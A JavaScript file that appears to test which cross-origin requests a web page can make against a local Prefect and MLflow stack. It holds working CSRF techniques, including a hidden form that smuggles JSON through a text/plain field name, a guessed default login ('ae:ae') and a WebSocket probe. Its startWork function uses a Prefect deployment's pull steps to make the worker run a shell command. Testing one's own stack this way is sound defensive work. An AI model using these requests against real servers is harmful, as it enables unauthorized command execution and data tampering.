// What a page of another origin may try against the servers of the stack.

const TYPES = ["application/json", "text/plain", "application/x-www-form-urlencoded"];

async function outcome(promise) {
  try {
    const response = await promise;
    return response.type === "opaque" ? "opaque" : response.status;
  } catch (error) {
    return "stopped";
  }
}

function trySocket(address) {
  return new Promise((resolve) => {
    const socket = new WebSocket(address, ["prefect"]);
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("stopped");
  });
}

function sendForm(address) {
  const form = document.createElement("form");
  Object.assign(form, { method: "POST", action: address, enctype: "text/plain", target: "hidden" });
  const input = document.createElement("input");
  Object.assign(input, { name: '{"name": "stolen", "x": "', value: '"}' });
  form.append(input);
  document.body.append(form);
  form.submit();
}

// Every request that a page can make; returns the result of each by name: a status where the page may read the answer.
async function attack({ prefect, mlflow, page, score }) {
  const stolen = JSON.stringify({ name: "stolen" });
  const sample = JSON.stringify({ inputs: Array(8).fill(Array(8).fill(0)) });
  const posts = [
    [`${prefect}/api/flows/`, stolen],
    [`${mlflow}/api/2.0/mlflow/experiments/create`, stolen],
    [`${mlflow}/ajax-api/2.0/mlflow/experiments/create`, stolen],
    [`${page}/try/digits`, sample],
    [`${score}/score`, sample],
  ];
  const results = {};
  for (const [address, body] of posts) {
    for (const type of TYPES) {
      for (const mode of ["cors", "no-cors"]) {
        const request = fetch(address, { method: "POST", mode, body, headers: { "content-type": type } });
        results[`${address} ${type} ${mode}`] = await outcome(request);
      }
    }
    results[`${address} blob`] = await outcome(fetch(address, { method: "POST", mode: "no-cors", body: new Blob([body]) }));
    sendForm(address);
  }
  const paths = [`${prefect}/api/admin/version`, `${prefect}/ui-settings`, `${mlflow}/version`, `${page}/`, `${score}/model`];
  for (const address of paths) results[`read ${address}`] = await outcome(fetch(address));
  const headers = { "content-type": "application/json", authorization: `Basic ${btoa("ae:ae")}` };
  results.guess = await outcome(fetch(`${prefect}/api/flows/`, { method: "POST", body: stolen, headers }));
  results.socket = await trySocket(`${prefect.replace("http", "ws")}/api/events/in`);
  await new Promise((resolve) => setTimeout(resolve, 1500)); // for the forms
  return results;
}

// The steps by which a page has made the worker run a command; returns the deployment's id, or why it was stopped.
async function startWork({ api, login, shell }) {
  const headers = { "content-type": "application/json" };
  if (login) headers.authorization = `Basic ${btoa(login)}`;
  const post = async (path, body) => {
    const response = await fetch(api + path, { method: "POST", body: JSON.stringify(body), headers });
    if (!response.ok) throw new Error(`${path}: ${response.status}`);
    return response.json();
  };
  try {
    const flow = await post("/flows/", { name: "of a page" });
    const deployment = { name: "shell", flow_id: flow.id, work_pool_name: "ae", entrypoint: "none.py:none" };
    const made = await post("/deployments/", { ...deployment, pull_steps: shell ? [shell] : [] });
    if (shell) await post(`/deployments/${made.id}/create_flow_run`, {});
    return made.id;
  } catch (error) {
    return `stopped: ${error.message}`;
  }
}
